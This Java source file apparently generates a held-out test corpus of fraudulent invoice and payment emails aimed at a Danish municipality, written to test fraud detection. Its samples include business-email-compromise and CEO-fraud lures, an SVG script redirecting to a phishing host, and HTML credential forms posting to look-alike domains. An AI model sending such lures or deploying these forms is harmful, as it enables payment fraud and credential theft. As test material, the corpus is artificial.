                headers(m, s.person(), addr(s), "kreditor@svendborg.dk", v == 1 ? "Ny konto" : "Updated payment details")
                    .text(GREET[v] + "\n\n" + e[2] + "\n\nKonto: " + e[1] + sig(s));
            } else {
                invoice(m, s, (String) e[1], v + 21, List.of(), "\n\n" + e[2]);
            }
            genuine(m, s.ip());
            m.description = s.domain() + " real mailbox taken over: its own server" + (dns.get(s.domain()).dkim() != null ? ", signed" : "")
                + ", asks to pay a new account";
            v++;
        }
    }

    private void hijack() {
        Object[][] x = {{toemrer, "taasinge-tomrer.dk"}, {sef, "sef-energi.dk"}, {el, "egebjerg-el.com"}};
        for (Object[] e : x) {
            Supplier s = (Supplier) e[0];
            String d = (String) e[1];
            M m = mail("reply-chain-hijack", true);
            String n = historyNo.get(s.domain());
            Amount a = amount(9_000_000);
            String acc = next();
            headers(m, s.person(), s.box() + "@" + d, "kreditor@svendborg.dk", "Re: SV: Faktura " + n)
                .header("In-Reply-To", threads.get(s.domain())).header("References", threads.get(s.domain()))
                .text("Hej\n\nTak for hurtigt svar. Banken har returneret jeres betaling, fordi vores gamle konto er lukket. Her er "
                    + "fakturaen igen med den rigtige konto - vil I overføre igen i dag?" + sig(s) + "\n\nDen " + dashedDay(m, -3)
                    + " skrev Kreditor, Svendborg Kommune:\n> Hej. Faktura " + n + " blev betalt " + dashedDay(m, -5) + ".\n> Mvh Kreditor")
                .attach("application/pdf", pdfName(n, 0), pdf(m, as(s, d, s.box()), "Faktura", n, a, acc, 2, List.of("Korrigeret")));
            ownedBy(m, d);
            m.description = "hijacked wave-1 thread continued from look-alike " + d + " of " + s.domain() + ", real invoice number, new account";
        }
    }

    private void ownDomain() {
        M m = mail("own-domain-forged", true);
        String n = no("SK");
        String acc = next();
        headers(m, "Kreditor - Svendborg Kommune", "kreditor@" + OWN, "oekonomi@svendborg.dk", "Haster: manuel betaling " + n)
            .text("Hej\n\nBetalingen til leverandøren er fejlet i systemet. Kan du overføre den manuelt i dag til " + acc
                + "? Fakturaen er vedhæftet og attesteret.\n\nKreditor")
            .attach("application/pdf", "attesteret_" + n + ".pdf", pdf(m, as(vognmand, "svendborg-vognmand.dk", "x"), "Faktura", n,
                amount(7_000_000), acc, 0, List.of("Attesteret")));
        forged(m, host++);
        m.description = "forged From our own domain (p=reject) from outside: pay an 'attested' invoice manually to a new account";
        m = mail("own-domain-forged", true);
        n = no("SK");
        acc = next();
        headers(m, "Svendborg Kommune Opkrævning", "opkraevning@" + OWN, "faktura@svendborg.dk", "Faktura " + n + " - mellemregning")
            .text("Hermed faktura for mellemkommunal refusion. Beløbet bedes indbetalt til " + acc + " inden 3 dage.\n\nOpkrævningen")
            .attach("application/pdf", pdfName(n, 4), pdf(m, new Supplier("Svendborg Kommune", OWN, "Opkrævning", "x", "", "",
                "mellemkommunal refusion"), "Faktura", n, amount(3_500_000), acc, 1, List.of()));
        forged(m, host++);
        m.description = "invoice 'from' our own domain sent from a fraudster's host, foreign account";
        m = mail("own-domain-forged", true);
        acc = next();
        headers(m, "Økonomichef", "oekonomichef@" + OWN, "kreditor@svendborg.dk", "Godkend ændret leverandørkonto")
            .html("<html><body><p>Hej</p><p>Jeg har talt med OneMed. Ret venligst deres konto til " + acc + " inden dagens "
                + "betalingskørsel. Jeg har godkendt det.</p><p>Mvh<br>Økonomichefen</p></body></html>");
        forged(m, host++);
        m.description = "HTML-only 'manager approval' of a supplier account change, forged From our own domain";
    }

    private void ceo() {
        String[][] x = {{"svendborg-kommune.dk", "Kommunaldirektør", "direktion", "Fortroligt - opkøb",
            "Hej\n\nVi er i gang med et fortroligt grundkøb. Jeg skal bruge en overførsel på 275.000 kr. til advokatens klientkonto "
                + iban("DE", "500105175407324931") + " i dag. Ingen må vide det endnu. Svar mig kun på denne mail."},
            {"gmail.com", "Borgmester Bo Hansen", "bo.hansen.borgmester", "Er du ved din computer?",
                "Er du ved din computer? Jeg har brug for en hurtig tjeneste. Jeg er i møde og kan ikke tale.\n\nSendt fra min iPhone"},
            {"icloud.com", "Økonomidirektør", "okdir.svendborg", "Betaling inden kl. 14",
                "Jeg skal have en betaling afsted inden kl. 14 til en ny samarbejdspartner: 96.400 kr. til " + bank("5301", "0009914627")
                    + ". Send kvittering når det er gjort."}};
        for (String[] e : x) {
            M m = mail("ceo-fraud", true);
            headers(m, e[1], e[2] + "@" + e[0], "oekonomi@svendborg.dk", e[3]).text(e[4]);
            if (e[0].contains("svendborg")) {
                ownedBy(m, e[0]);
            } else {
                genuine(m, dns.get(e[0]).spfIps().get(0));
            }
            m.description = "CEO/mayor payment request from " + e[0];
        }
    }

    private void bodyOnly() {
        M m = mail("bank-change-body-only", true);
        String acc = next();
        headers(m, "OneMed Økonomi", "onemed.oekonomi@gmail.com", "kreditor@svendborg.dk", "Ny kontooplysning")
            .text("Hej\n\nVi har ny konto: " + acc + ". Bekræft venligst ændringen ved at svare på denne mail. Spørgsmål: +45 71 88 02 63.\n\nOneMed");
        genuine(m, "127.56.1.1");
        m.description = "bank change with only an account and phone number in the body, gmail with a listed supplier's name";
        m = mail("bank-change-body-only", true);
        acc = next();
        headers(m, "Kasper Thurø", addr(maler), "kreditor@svendborg.dk", "Konto")
            .text("Hej. Vores konto er ændret til " + acc + ". Ring på 31 44 07 19 hvis noget, det er firmatelefonen nu.\n\nKasper");
        forged(m, host++);
        m.description = "forged From of a listed supplier publishing nothing, new account and phone in the body only";
        m = mail("bank-change-body-only", true);
        acc = next();
        headers(m, "Mette Bjerreby", "mette@sydfyns-anlaeg.com", "kreditor@svendborg.dk", "Betalingsoplysninger")
            .text("Hej\n\nVi beder jer venligst bruge " + acc + " til alle kommende betalinger.\n\nMvh Mette");
        ownedBy(m, "sydfyns-anlaeg.com");
        m.description = "other-TLD look-alike sydfyns-anlaeg.com of sydfyns-anlaeg.dk, body-only bank change";
    }

    private void inkasso() {
        Object[][] x = {{"sydfyn-inkasso.dk", "Sydfyn Inkasso", medier}, {"nordisk-inkassobureau.com", "Nordisk Inkassobureau", canon()},
            {"fjernvarmefyn-opkraevning.dk", "Fjernvarme Fyn Opkrævning", varme}};
        int v = 0;
        for (Object[] e : x) {
            M m = mail("fake-inkasso", true);
            Supplier s = (Supplier) e[2];
            String d = (String) e[0];
            String acc = next();
            String n = historyNo.getOrDefault(s.domain(), "C-" + (300_000 + v));
            Amount a = amount(3_500_000);
            headers(m, (String) e[1], "sag@" + d, "kreditor@svendborg.dk", v == 0 ? "Inkassomeddelelse vedr. faktura " + n
                : v == 1 ? "Final notice before legal action - invoice " + n : "Sidste rykker inden inkasso: " + n)
                .text("Til Svendborg Kommune\n\nFaktura " + n + " fra " + s.name() + " er ikke betalt og er overdraget til os. Samlet "
                    + "krav inkl. renter og gebyrer: " + a.gross() + " kr.\n\nBetal til " + acc + " senest om 48 timer. Sker det ikke, "
                    + "anmeldes kravet til fogedretten og RKI, og der pålægges yderligere omkostninger.\n\n" + e[1])
                .attach("application/pdf", "inkasso_" + n + ".pdf", pdf(m, as(s, d, "sag"), "Inkassomeddelelse", n, a, acc, 2,
                    List.of("Hovedstol jf. faktura " + n, "Inkassoomkostninger 100,00")));
            ownedBy(m, d);
            m.description = "fake inkasso citing " + (historyNo.containsKey(s.domain()) ? "the real wave-1 invoice " + n + " of " : "an invoice of ")
                + s.domain() + " from " + d + ", new account";
            v++;
        }
    }

    private static Supplier canon() {
        return new Supplier("Canon Danmark A/S", "canon.dk", "Canon Invoicing", "invoice.dk", "127.52.5.1", "", "print");
    }

    private void digitalPost() {
        M m = mail("fake-digital-post", true);
        headers(m, "Digital Post", "meddelelse@borger-digitalpost.net", "oekonomi@svendborg.dk", "Ulæst meddelelse: Gældsstyrelsen")
            .html("<html><body><p>Svendborg Kommune har en ulæst meddelelse fra Gældsstyrelsen om et forfaldent beløb.</p><p><a href=\""
                + "https://borger-digitalpost.net/erhverv/mitid\">Åbn med MitID Erhverv</a></p></body></html>");
        ownedBy(m, "borger-digitalpost.net");
        m.description = "fake Digital Post notice with a MitID Erhverv login link";
        m = mail("fake-digital-post", true);
        String h = idn("svendb\u043Erg.dk");
        headers(m, "Svendborg Kommune", "digitalpost@" + h, "kreditor@svendborg.dk", "Ny opkrævning i Digital Post")
            .html("<html><body><p>Der ligger en opkrævning til jer i Digital Post. <a href=\"https://" + h
                + "/digitalpost/vis\">Vis opkrævningen</a>.</p></body></html>");
        ownedBy(m, h);
        m.description = "Digital Post notice from a homoglyph look-alike of our own domain";
    }

    private void renewals() {
        Object[][] x = {{"dk-domaene-fornyelse.com", "DK Domæne Fornyelse", "svendborg.dk: fornyelse forfalden",
            "Registreringen af svendborg.dk skal fornyes. Betal 1.875,00 kr. til " + iban("CY", "002001950000357001234567")
                + " inden 72 timer for at undgå at domænet frigives."},
            {"kommune-registret.eu", "Kommune Registret", "Bekræft jeres oplysninger 2027",
                "Bekræft jeres oplysninger i Kommune Registret. Ved underskrift bestilles en 3-årig registrering til 995 EUR pr. år."}};
        int v = 0;
        for (Object[] e : x) {
            M m = mail("domain-directory-scam", true);
            String d = (String) e[0];
            Supplier s = new Supplier((String) e[1], d, (String) e[1], "", "", "", "registrering 2027");
            String n = no("REG");
            headers(m, (String) e[1], "service@" + d, to(), (String) e[2]).text(e[3] + "\n\nVenlig hilsen\n" + e[1])
                .attach("application/pdf", v == 0 ? "fornyelse_" + n + ".pdf" : "bekraeftelse_" + n + ".pdf",
                    pdf(m, s, "Faktura", n, amount(900_000), "se formularen", 3, List.of("Ordre ved underskrift")));
            ownedBy(m, d);
            m.description = "domain/directory renewal scam from " + d;
            v++;
        }
    }

    private void xmlFraud() {
        Object[][] x = {{onemed, "onemed-einvoice.com", true, "owned"}, {varme, "fjernvarmefyn.dk", false, "forged"}};
        for (Object[] e : x) {
            Supplier s = (Supplier) e[0];
            M m = mail("xml-invoice-changed-account", true);
            String n = no("EF");
            Amount a = amount(11_000_000);
            String acc = next();
            date(m);
            String from = "efaktura@" + e[1];
            headers(m, s.name(), from, "faktura@svendborg.dk", "Faktura " + n + ((Boolean) e[2] ? " (Peppol BIS 3)" : " (OIOUBL 2.1)"))
                .text("Vedhæftet e-faktura til EAN " + GLN + ". Bemærk vores nye konto i betalingsoplysningerne.\n\n" + s.name())
                .attach("application/xml", "Invoice_" + n + ".xml", ubl(m, s, n, a, (Boolean) e[2], false, acc));
            if (e[3].equals("owned")) {
                ownedBy(m, (String) e[1]);
            } else {
                forged(m, host++);
            }
            m.description = ((Boolean) e[2] ? "Peppol" : "OIOUBL") + "-looking XML in " + s.domain() + "'s name with a changed account ("
                + e[3] + " " + e[1] + ")";
        }
    }

    private void qrFraud() {
        M m = mail("qr-code-payment", true);
        String n = no("FB");
        headers(m, "FynBus Betaling", "betaling@fynbus-betaling.dk", to(), "Faktura " + n + " - betal med QR")
            .html("<html><body><p>Faktura " + n + " for flextrafik er klar. Scan den vedhæftede QR-kode med bankens app for at betale "
                + amount(1_800_000).gross() + " kr. Betaling senest i morgen.</p></body></html>")
            .attach("image/png", "qr_" + n + ".png", Attachments.qr(docId(m, "qr")));
        ownedBy(m, "fynbus-betaling.dk");
        m.description = "QR code to pay, added-word look-alike of fynbus.dk";
        m = mail("qr-code-payment", true);
        headers(m, "P-Kontrol", "kontrol@p-afgift-kontrol.dk", "vej-park@svendborg.dk", "Ubetalt kontrolafgift - tjenestebil")
            .text("Tjenestebil CV 88 412 har en ubetalt kontrolafgift på 750 kr. Scan QR-koden i vedhæftningen for at betale, ellers "
                + "sendes sagen til inkasso.")
            .attach("image/png", "betal.png", Attachments.qr(docId(m, "qr")));
        ownedBy(m, "p-afgift-kontrol.dk");
        m.description = "QR code to pay a fake parking fine";
    }

    private void english() {
        Object[][] x = {{"canon-emea-receivables.com", "Canon EMEA Receivables", iban("IE", "BOFI90001798765432"),
            "Canon Danmark's receivables are now managed by our EMEA shared service centre in Dublin. Please settle the attached "
                + "invoice to our collection account and update your vendor master file."},
            {"adobe-license-billing.com", "Adobe Licensing", null, "Your organisation's Acrobat licences expire today. Renew now to avoid "
                + "losing access to signed documents."}};
        for (Object[] e : x) {
            M m = mail("english-international", true);
            String d = (String) e[0];
            String n = no("INV");
            Mime mime = headers(m, (String) e[1], "billing@" + d, e[2] == null ? "it@svendborg.dk" : "kreditor@svendborg.dk",
                e[2] == null ? "Licence renewal failed - action needed" : "Invoice " + n + " - new remittance account");
            if (e[2] == null) {
                mime.html("<html><body><p>Dear administrator,</p><p>" + e[3] + "</p><p><a href=\"https://" + d + "/renew\">Renew "
                    + "licences</a></p></body></html>");
            } else {
                mime.text("Dear Accounts Payable,\n\n" + e[3] + "\n\n" + e[2] + "\n\nBest regards\n" + e[1])
                    .attach("application/pdf", "Invoice_" + n + ".pdf", pdf(m, as(canon(), d, "billing"), "Invoice", n, amount(5_000_000),
                        (String) e[2], 1, List.of()));
            }
            ownedBy(m, d);
            m.description = "English-language international fraud from " + d;
        }
    }

    private void imageOnly() {
        M m = mail("image-only-invoice", true);
        headers(m, "Bjarne Skovsbo", "svendborgvognmand@hotmail.com", "kreditor@svendborg.dk", "Regning kørsel")
            .text("Hej, fakturaen er scannet. Husk den nye konto som står på den.\n\nBjarne")
            .attach("application/pdf", "SCAN_0047.pdf", Attachments.scannedPdf(docId(m, "scan")));
        genuine(m, "127.56.2.1");
        m.description = "image-only PDF invoice from hotmail with a listed supplier's name";
        m = mail("image-only-invoice", true);
        headers(m, "Thurø Maler & Tapet", "kasper@thuroe-maler.com", to(), "Faktura " + no("TM"))
            .text("Faktura som billede.")
            .attach("image/jpeg", "faktura.jpg", Attachments.image(docId(m, "jpg"), "jpg"));
        ownedBy(m, "thuroe-maler.com");
        m.description = "JPEG-only invoice from other-TLD look-alike thuroe-maler.com";
    }

    private void archives() {
        M m = mail("archive-invoice", true);
        String n = no("FG");
        byte[] inner = pdf(m, as(frugt, "frugtgroent-sydfyn.com", "bogholderi"), "Faktura", n, amount(6_000_000), next(), 0, List.of());
        headers(m, "Frugt & Grønt Sydfyn", "bogholderi@frugtgroent-sydfyn.com", to(), "Samlefaktura november")
            .text("Hej\n\nSamlefakturaen for november er pakket som zip.\n\nFrugt & Grønt Sydfyn")
            .attach("application/zip", "samlefaktura_nov.zip", Attachments.zip("Samlefaktura_" + n + ".pdf", inner));
        ownedBy(m, "frugtgroent-sydfyn.com");
        m.description = "invoice PDF in a ZIP from other-TLD look-alike frugtgroent-sydfyn.com, new account";
        m = mail("archive-invoice", true);
        n = no("DB");
        String form = "<html><body><h3>Dokumentboks</h3><p>Faktura " + n + " er krypteret. Log ind med din arbejdskonto for at se den."
            + "</p><form action=\"https://dokument-boks.net/auth\" method=\"post\"><input name=\"user\"><input name=\"pw\" type=\"password\">"
            + "<button>Log ind</button></form></body></html>";
        headers(m, "Dokumentboks", "levering@dokument-boks.net", to(), "Sikker levering: faktura " + n)
            .text("Der er leveret et sikkert dokument til jer. Åbn vedhæftede arkiv.")
            .attach("application/zip", "Faktura_" + n + ".zip", Attachments.zip("Faktura_" + n + ".htm", form));
        ownedBy(m, "dokument-boks.net");
        m.description = "ZIP holding an HTML credential form posing as an invoice";
    }

    // ---- families no earlier corpus has

    /** A "transport" letter: the supplier's receivables are said to be sold to a factoring company; pay there. */
    private void factoring() {
        Object[][] x = {{"nordic-factoring-finans.com", "Nordic Factoring Finans", anlaeg, "owned"},
            {"fynsk-factoring.dk", "Fynsk Factoring", medier, "owned"}, {"sydfyns-kloak.dk", "Sydfyns Kloakservice", kloak, "compromised"}};
        for (Object[] e : x) {
            M m = mail("factoring-assignment", true);
            Supplier s = (Supplier) e[2];
            String d = (String) e[0];
            String acc = next();
            boolean own = e[3].equals("owned");
            headers(m, (String) e[1], (own ? "transport@" : "ordre@") + d, "kreditor@svendborg.dk",
                "Meddelelse om transport - " + s.name())
                .text("Til Svendborg Kommune, kreditorafdelingen\n\n" + s.name() + " (CVR " + cvr(s.domain()) + ") har overdraget "
                    + "samtlige nuværende og fremtidige tilgodehavender hos jer til " + (own ? e[1] : "vores factoringpartner") + ". Med "
                    + "frigørende virkning kan betaling herefter kun ske til " + acc + ". Betaling til leverandørens tidligere konto "
                    + "fritager ikke for betalingspligten.\n\nOpdater venligst jeres kreditorkartotek straks og bekræft ved at svare på "
                    + "denne mail.\n\n" + e[1])
                .attach("application/pdf", "Transporterklaering_" + s.name().replaceAll("[^A-Za-z]", "") + ".pdf",
                    Attachments.pdf(docId(m, "transport"), "Transporterklæring", List.of("Overdrager: " + s.name(),
                        "Erhverver: " + (own ? e[1] : "factoringpartner"), "Betalingskonto: " + acc, "Underskrift: direktionen")));
            if (own) {
                ownedBy(m, d);
            } else {
                genuine(m, s.ip());
            }
            m.description = "fake factoring assignment (transport) for " + s.domain() + (own ? " from " + d : " from its taken-over mailbox")
                + ", new account";
        }
    }

    /** Salary diversion: an 'employee' asks payroll to pay the salary to a new account. */
    private void payroll() {
        String[][] x = {{"gmail.com", "Camilla Thorsen", "camilla.thorsen1987", "Ændring af lønkonto",
            "Hej Løn\n\nJeg har skiftet bank og vil gerne have min løn fra december udbetalt til " + bank("5301", "0007342198")
                + ". Jeg kan ikke logge på Medarbejderportalen pt. Kan I gøre det for mig?\n\nMvh Camilla Thorsen\nSocialpædagog, Skovsbo"},
            {"outlook.com", "Morten Rasmussen", "morten.rasmussen.svb", "Ny bankkonto til lønudbetaling",
                "Hej\n\nMin lønkonto er ændret. Vil du opdatere den til " + iban("LT", "3132500010045678") + " inden næste lønkørsel? "
                    + "Jeg er på kursus og har kun adgang til min private mail.\n\nMorten, Vej og Park"}};
        for (String[] e : x) {
            M m = mail("payroll-account-change", true);
            headers(m, e[1], e[2] + "@" + e[0], "loen@svendborg.dk", e[3]).text(e[4]);
            genuine(m, dns.get(e[0]).spfIps().get(0));
            m.description = "payroll diversion: 'employee' on " + e[0] + " asks to pay the salary to a new account";
        }
    }

    /** Call-back ("TOAD") invoice: no attachment, no link, only an amount and a phone number to cancel. */
    private void callback() {
        M m = mail("callback-phone-invoice", true);
        String n = no("ORD");
        headers(m, "Ordrebekræftelse", "kundeservice@ordre-bekraeftelse-dk.com", "indkoeb@svendborg.dk", "Ordre " + n + " er bekræftet")
            .text("Tak for din bestilling.\n\nOrdre: " + n + "\nVare: Norton 360 Business, 50 enheder, 3 år\nBeløb: 14.995,00 kr. "
                + "trækkes automatisk inden 24 timer.\n\nHar du ikke bestilt denne ordre, ring straks til vores annulleringsafdeling "
                + "på +45 78 79 41 20 (hverdage 8-20).\n\nKundeservice");
        ownedBy(m, "ordre-bekraeftelse-dk.com");
        m.description = "call-back invoice: no attachment or link, only an amount and a phone number to 'cancel'";
        m = mail("callback-phone-invoice", true);
        n = no("PP");
        headers(m, "PayPal Fakturering", "paypal.fakturering.dk@gmail.com", "oekonomi@svendborg.dk", "Faktura " + n + " - betaling gennemført")
            .text("Kære kunde\n\nDin betaling på 6.499,00 kr. til GeekSupport Nordic er gennemført.\n\nGenkender du ikke købet? Ring "
                + "til vores supportteam på +45 89 88 72 11 inden for 24 timer for refusion.\n\nFaktura-ID " + n);
        genuine(m, "127.56.1.1");
        m.description = "call-back invoice from gmail posing as a payment service, phone number only";
    }

    /** Overpayment/refund: the municipality is told it received money by mistake and should pay it back elsewhere. */
    private void refund() {
        M m = mail("overpayment-refund-request", true);
        String acc = next();
        headers(m, "SEF Energi Debitor", "debitor@sef-dk.com", "kreditor@svendborg.dk", "Fejlagtig udbetaling af tilgodehavende")
            .text("Kære kunde\n\nVed en fejl i vores afregning er der udbetalt et tilgodehavende på 41.260,00 kr. til jeres NemKonto to "
                + "gange. Vi beder jer tilbageføre det ene beløb til vores returkonto " + acc + " snarest, så vi kan lukke sagen.\n\n"
                + "SEF Energi A/S, Debitor");
        ownedBy(m, "sef-dk.com");
        m.description = "overpayment refund request from look-alike sef-dk.com of sef.dk, asks to 'return' money to a new account";
        m = mail("overpayment-refund-request", true);
        headers(m, "Jannie Mikkelsen", "jannie.mikkelsen77@hotmail.com", "opkraevning@svendborg.dk", "Betalt dobbelt - kan I tilbageføre?")
            .text("Hej\n\nJeg har ved en fejl betalt min regning for SFO to gange (2 x 2.340 kr.). Min gamle konto er lukket, så vil I "
                + "sende pengene tilbage til min nye konto " + iban("EE", "4222001020145685") + "? Det haster lidt.\n\nJannie");
        genuine(m, "127.56.2.1");
        m.description = "'citizen' on hotmail claims a double payment and asks for a refund to a foreign account";
    }

    /** An SVG or HTML 'invoice' that is really a script/login page. */
    private void svg() {
        M m = mail("svg-html-attachment", true);
        String n = no("F");
        String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"600\" height=\"300\"><text x=\"20\" y=\"40\">Faktura " + n
            + " - indlæser...</text><script type=\"text/javascript\"><![CDATA[window.location='https://faktura-visning.com/v?d="
            + n + "&u='+encodeURIComponent('kreditor@svendborg.dk');]]></script></svg>";
        headers(m, "Fakturavisning", "noreply@faktura-visning.com", "kreditor@svendborg.dk", "Faktura " + n + " til godkendelse")
            .text("Hej\n\nFakturaen er vedhæftet. Åbn filen i din browser for at se den.")
            .attach("image/svg+xml", "Faktura_" + n + ".svg", svg.getBytes(StandardCharsets.UTF_8));
        ownedBy(m, "faktura-visning.com");
        m.description = "SVG 'invoice' with a script redirecting to a login page, from faktura-visning.com";
        m = mail("svg-html-attachment", true);
        n = no("CA");
        String html = "<html><head><title>Canon faktura " + n + "</title></head><body><p>Canon Danmark - faktura " + n + "</p><p>For at "
            + "se fakturaen skal du bekræfte din Microsoft-konto.</p><form action=\"https://canon-finance.dk/o365\" method=\"post\">"
            + "<input name=\"login\"><input name=\"passwd\" type=\"password\"><button>Se faktura</button></form></body></html>";
        headers(m, "Canon Invoicing", "invoice.dk@canon.dk", "kreditor@svendborg.dk", "Canon faktura " + n)
            .text("Kære kunde\n\nVedhæftet finder du din faktura fra Canon Danmark.")
            .attach("text/html", "Canon_Faktura_" + n + ".html", html.getBytes(StandardCharsets.UTF_8));
        forged(m, host++);
        m.description = "HTML 'invoice' attachment with a credential form, forged From canon.dk (p=quarantine)";
    }

    /** A supplier master-data form ("leverandøroplysninger") in the supplier's name with a changed account. */
    private void masterData() {
        M m = mail("supplier-masterdata-form", true);
        String acc = next();
        headers(m, "Pia Stenstrup", "faktura@svendborg-rengoring.dk", "kreditor@svendborg.dk", "Opdaterede leverandøroplysninger")
            .text("Hej\n\nI forbindelse med årsafslutningen sender vi opdaterede stamdata. Vil I registrere dem inden næste betaling?"
                + sig(rengoering))
            .attach("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "Leverandoroplysninger_2027.xlsx",
                Attachments.excel(List.of("Felt;Værdi", "Navn;Svendborg Rengøring ApS", "CVR;" + cvr("svendborg-rengoering.dk"),
                    "Bankkonto;" + acc, "Kontaktmail;faktura@svendborg-rengoring.dk"), false));
        ownedBy(m, "svendborg-rengoring.dk");
        m.description = "master-data spreadsheet from typo look-alike svendborg-rengoring.dk of svendborg-rengoering.dk, new account";
        m = mail("supplier-masterdata-form", true);
        acc = next();
        headers(m, "Lars Egebjerg", "lars@egebjergel.dk", "kreditor@svendborg.dk", "Udfyldt leverandørskema")
            .text("Hej\n\nHer er jeres leverandørskema udfyldt og underskrevet. Bemærk ny bank.\n\nLars")
            .attach("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "Leverandorskema_Egebjerg_El.docx",
                Attachments.word("Leverandørskema - Svendborg Kommune\nFirma: Egebjerg El-Service ApS\nCVR: " + cvr("egebjerg-el.dk")
                    + "\nBetalingskonto: " + acc + "\nUnderskrift: Lars Egebjerg", false));
        ownedBy(m, "egebjergel.dk");
        m.description = "filled-in supplier form (docx) from missing-hyphen look-alike egebjergel.dk, new account";
    }

    /** A fake bank message: payments await approval, log in here. */
    private void bankApproval() {
        M m = mail("fake-bank-approval", true);
        headers(m, "Netbank Erhverv", "godkendelse@netbank-erhverv-godkend.com", "oekonomi@svendborg.dk", "3 betalinger afventer din godkendelse")
            .html("<html><body><p>Der ligger 3 betalinger (i alt 612.040,00 kr.) der afventer din godkendelse. Godkendes de ikke inden "
                + "kl. 15, afvises de.</p><p><a href=\"https://netbank-erhverv-godkend.com/login\">Godkend med MitID</a></p></body></html>");
        ownedBy(m, "netbank-erhverv-godkend.com");
        m.description = "fake business-bank approval request with a MitID login link";
        m = mail("fake-bank-approval", true);
        headers(m, "Nordfyns Bank Erhverv", "sikkerhed@erhverv-nordfynsbank.com", "oekonomi@svendborg.dk", "Betalingsfil afvist - handling påkrævet")
            .html("<html><body><p>Kære kunde</p><p>Jeres betalingsfil KRED-2026-48 er afvist af sikkerhedshensyn. Bekræft jeres "
                + "oplysninger for at frigive betalingerne.</p><p><a href=\"https://erhverv-nordfynsbank.com/frigiv\">Frigiv betalinger</a>"
                + "</p></body></html>");
        ownedBy(m, "erhverv-nordfynsbank.com");
        m.description = "fake Nordfyns Bank notice that a payment file was rejected, login link from erhverv-nordfynsbank.com";
    }

    /** The boss wants gift cards for staff. */
    private void giftCards() {
        M m = mail("gift-card-request", true);
        headers(m, "Kommunaldirektør", "kommunaldirektoer.svb@outlook.com", "indkoeb@svendborg.dk", "Julegaver til medarbejdere")
            .text("Hej\n\nJeg vil gerne overraske et team med julegaver. Køb 20 gavekort à 500 kr. (Apple eller Google Play) og send "
                + "mig koderne som billeder. Jeg refunderer det via udlæg. Det skal være en overraskelse, så sig det ikke til nogen.\n\n"
                + "Sendt fra min telefon");
        genuine(m, "127.56.2.1");
        m.description = "gift-card request from the 'director' on outlook.com";
        m = mail("gift-card-request", true);
        headers(m, "Borgmesteren", "borgmester@svendborg-kommune.dk", "oekonomi@svendborg.dk", "Lille opgave")
            .text("Hej, har du et øjeblik? Jeg har brug for 10 gavekort til frivillige. Kan du købe dem i dag og maile koderne?");
        ownedBy(m, "svendborg-kommune.dk");
        m.description = "gift-card request from the 'mayor' on look-alike svendborg-kommune.dk";
    }

    // ------------------------------------------------------------------------------------------ output

    public List<Mail> generate() {
        world();
        legit();
        fraud();
        return heldOutOutput(invoiceLike);
    }

    public static List<Mail> write(Path dir) throws IOException {
        return writeFiles(dir, new HeldOutCorpus5().generate(), List.of(
            "# Svendborg Kommune, Økonomi og Digitalisering: invoice checks (fifth held-out corpus run, InvoiceCorpusIT).",
            "# Suppliers from the creditor list; invoicing platforms our suppliers use.",
            "invoice.profile=standard",
            "invoice.domains.own=" + OWN,
            "invoice.domains.suppliers=svendborgforsyning.dk fynbus.dk fjernvarmefyn.dk taasinge-toemrer.dk sef.dk sydfyns-anlaeg.dk "
                + "thuroe-maler.dk svendborg-vognmand.dk frugtgroent-sydfyn.dk fynskemedier.dk svendborg-rengoering.dk sydfyns-kloak.dk "
                + "onemed.dk egebjerg-el.dk",
            "invoice.domains.platforms=minuba.dk apacta.com inexchange.com",
            "invoice.names.protected=Svendborg Kommune"));
    }
}
